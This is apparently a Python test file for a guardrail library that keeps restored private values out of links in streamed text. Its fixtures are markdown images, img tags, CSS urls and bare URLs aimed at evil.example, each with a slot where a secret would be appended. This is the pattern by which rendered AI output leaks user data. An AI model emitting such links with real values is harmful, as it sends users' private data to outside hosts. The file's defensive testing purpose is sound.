"""Where a link begins and ends: no value is restored into a part of one (docs/adr/0151)."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrail import tokens
from guardrail.links import carried, regions
from guardrail.stream import _tail

TOKEN = f"<{tokens.make(b'k' * 32, 'PERSON', 'Ann', length=6)}>"
URL = f"<{tokens.make(b'k' * 32, 'URL', 'https://example.com', length=6)}>"

PARTS = (
    "![x](http://evil.example/?q=@)",
    "![x](http:/evil.example/?q=@)",
    "![x](http:evil.example/@)",
    "![x](\\\\evil.example/@)",
    "![x](//evil.example/@)",
    "![x](<http://evil.example/?q= @>)",
    "![x](http://e.example/(x)/ @)",
    "![x](http://e.example/\\)@)",
    '<img src="http://evil.example/?q= @">',
    '<img src="http://evil.example/?q=\n@">',
    "<img src='  //evil.example/a b @'>",
    "<div style=\"background:url('http://evil.example/ @')\">",
    "[x]: http://evil.example/?q=@",
    "www.evil.example/@",
    "HTTPS://EVIL.EXAMPLE/@",
    "custom+app://open?x=@",
    "see http://@.evil.example/",
    "![x](§?q=@)",
    "§@",
)
NO_PARTS = (
    "@ wrote http://evil.example/ twice",
    "http://evil.example/ @",
    "(http://evil.example/) @",
    '"http://evil.example/" @',
    "`http://evil.example/` @",
    '<img src="http://evil.example/">@',
    "Name:@",
    "mailto:@",
    "C:\\Users\\@",
    "either/or/@",
    "// @ wrote this",
    "§ @",
    "[§](§) @",
    "[@](§)",
)


def inside(text):
    whole = text.replace("@", TOKEN).replace("§", URL)
    return any(region.holds(whole.index(TOKEN)) for region in regions(whole))


@pytest.mark.parametrize("text", PARTS)
def test_a_token_in_a_link_is_a_part_of_it(text):
    assert inside(text)


@pytest.mark.parametrize("text", NO_PARTS)
def test_a_token_beside_a_link_is_none(text):
    assert not inside(text)


def test_a_token_that_is_all_of_a_link_is_no_part_of_it():
    assert [region.holds(text.index("<")) for text in (URL, f"![]({URL})") for region in regions(text)] == [
        False,
        False,
    ]


@pytest.mark.parametrize("text", [part.partition("@")[0] for part in PARTS if "§" not in part])
@pytest.mark.parametrize("padding", ["a" * 400, "(" * 40 + "a" * 200, "/a" * 500])
def test_a_stream_remembers_the_link_that_it_is_in_over_any_length(text, padding):
    before = ""
    for piece in [text + padding[:100], *[padding[at : at + 97] for at in range(100, len(padding), 97)]]:
        before = _tail(before + piece)
    assert any(region.holds(len(before)) for region in regions(before + TOKEN))


@settings(max_examples=200)
@given(st.text(alphabet="htp:/\\ ()<>\"'`=w.aU_\n", max_size=80))
def test_regions_are_disjoint_sorted_and_open_ones_are_carried(text):
    at = 0
    for region in regions(text):
        assert at <= region.start < region.end <= len(text)
        at = region.end
    held = carried(text)
    assert bool(held) == bool(regions(text) and regions(text)[-1].end == len(text))
    if held:
        assert regions(held)[-1].end == len(held)


@pytest.mark.parametrize(
    "text", ["http://a " * 40_000, "(http:" * 40_000, '="http:' * 40_000, "//a" * 80_000]
)
def test_hostile_text_takes_time_in_proportion_to_its_length(text):
    assert regions(text)
